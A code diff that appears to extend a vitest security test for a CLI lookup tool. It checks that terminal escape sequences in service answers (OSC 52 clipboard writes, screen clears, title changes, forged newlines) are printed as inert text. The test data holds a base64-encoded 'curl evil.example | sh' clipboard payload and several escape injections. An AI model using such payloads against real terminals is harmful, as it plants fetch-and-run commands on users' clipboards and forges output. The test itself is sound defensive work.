@@ -1,15 +1,39 @@
 /**
- * A hostile lookup service and a hostile state.db, against the built command (issue 24): a cooldown no date can
- * hold is printed as a sentence, not as "unexpected error (RangeError)".
+ * A hostile lookup service and a hostile state.db, against the built command (issue 24): answers and messages
+ * carrying terminal escapes (an OSC 52 clipboard write, a screen clear, a window title, 8-bit CSI) reach the
+ * terminal as plain text; a cooldown no date can hold is printed as a sentence, not as "unexpected error
+ * (RangeError)".
  */
+import { execFileSync, spawnSync } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { cli, hasKeyring, tempDir, testKey } from './helpers';
+import { CLI, cli, hasKeyring, tempDir, testKey } from './helpers';
 
 const KEY = testKey('hostile');
+/** Every control character a terminal acts on (C0 but \n, DEL, C1). */
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
+/** A 400 whose message writes the clipboard (OSC 52), clears the screen and scrollback, and forges a line. */
+const MESSAGE = `bad \x1b]52;c;${CLIPBOARD}\x07\x1b[2J\x1b[3J\x1b[H\u009b2Jinput\r\nlookup-tray: all fine`;
+const ANSWER = {
+  data: {
+    ip: '203.0.113.2',
+    hostname: '\x1b]0;PWNED-TITLE\x07evil.example',
+    location: {
+      city: { name: 'Spring\u009b2Jfield' },
+      country: { name: 'Atlantis\x1b]52;c;' + CLIPBOARD + '\x1b\\' },
+    },
+    // A newline would forge a row of the summary under it.
+    connection: { organization: 'Evil Org\n  security  nothing flagged', asn: 64500 },
+    security: { is_vpn: true },
+  },
+};
 const TEN_YEARS_S = 10 * 365 * 24 * 3600;
 
 let server: http.Server;
@@ -27,6 +51,8 @@ beforeAll(async () => {
     if (u.pathname !== '/v2/info') return reply(res, 404, { message: 'not found' });
     if (req.headers.apikey !== KEY) return reply(res, 401, { message: 'no' });
     const ip = u.searchParams.get('ip');
+    if (ip === '203.0.113.1') return reply(res, 400, { message: MESSAGE });
+    if (ip === '203.0.113.2') return reply(res, 200, ANSWER);
     if (ip === '203.0.113.4') return reply(res, 429, { message: 'slow down' }, { 'retry-after': String(TEN_YEARS_S) });
     reply(res, 200, { data: { ip } });
   });
@@ -43,6 +69,69 @@ afterAll(async () => {
   server.closeAllConnections();
   await new Promise((r) => server.close(r));
   data.remove();
+});
+
+describe.runIf(hasKeyring)('terminal escapes from the service', () => {
+  it("a 400's message with a clipboard write and a screen clear is printed as one plain line on stderr", async () => {
+    const r = await cli(data.dir, ['lookup', '203.0.113.1']);
+    expect(r.code).toBe(7);
+    expect(r.stderr).not.toMatch(CONTROL);
+    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1); // "lookup-tray: all fine" cannot start a line of its own
+    expect(r.stderr).toMatch(/^203\.0\.113\.1: The service answered 400: bad \]52;c;\S+\[2J\[3J\[H2Jinput lookup-tray/);
+  });
+
+  it('off a terminal, JSON carries every character of the answer, none of them raw', async () => {
+    const r = await cli(data.dir, ['lookup', '203.0.113.2']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).not.toMatch(CONTROL);
+    expect(JSON.parse(r.stdout)).toEqual(ANSWER);
+  });
+
+  const hasTmux = spawnSync('tmux', ['-V']).status === 0;
+  it.runIf(hasTmux)(
+    'on a terminal: the title, the clipboard and the screen stay as they were, and no summary row is forged',
+    async () => {
+      const socket = `lt-hostile-${process.pid}`;
+      const conf = join(data.dir, 'tmux.conf');
+      // Let applications write tmux's clipboard (OSC 52), so that an attempt would show as a paste buffer.
+      writeFileSync(conf, 'set -s set-clipboard on\n');
+      const tmux = (...args: string[]) =>
+        execFileSync('tmux', ['-L', socket, '-f', conf, ...args], { encoding: 'utf8' });
+      const cmd = `'${process.execPath}' '${CLI}' --data-dir '${data.dir}' lookup 203.0.113.2 203.0.113.1`;
+      try {
+        tmux(
+          'new-session',
+          '-d',
+          '-s',
+          'h',
+          '-x',
+          '150',
+          '-y',
+          '40',
+          'sh',
+          '-c',
+          `echo BEFORE; ${cmd}; echo EXIT=$?; sleep 60`,
+        );
+        let screen = '';
+        await expect
+          .poll(() => ((screen = tmux('capture-pane', '-p', '-J', '-t', 'h')), screen.includes('EXIT=')), {
+            timeout: 20_000,
+          })
+          .toBe(true);
+        expect(screen).toContain('EXIT=7');
+        expect(screen).toMatch(/^BEFORE$/m); // not cleared
+        expect(tmux('display-message', '-p', '-t', 'h', '#{pane_title}')).not.toContain('PWNED');
+        expect(tmux('list-buffers')).toBe(''); // no clipboard write
+        expect(screen).toMatch(/^ {2}hostname +\]0;PWNED-TITLEevil\.example$/m);
+        expect(screen).toMatch(/^ {2}location +Spring2Jfield, Atlantis\]52;c;\S+$/m);
+        expect(screen).toMatch(/^ {2}network +Evil Org security +nothing flagged · AS64500$/m);
+        expect(screen).not.toMatch(/^ {2}security +nothing flagged$/m);
+        expect(screen).toMatch(/^ {2}security +vpn$/m);
+      } finally {
+        spawnSync('tmux', ['-L', socket, 'kill-server']);
+      }
+    },
+  );
 });
 
 describe('a cooldown no date can hold', () => {
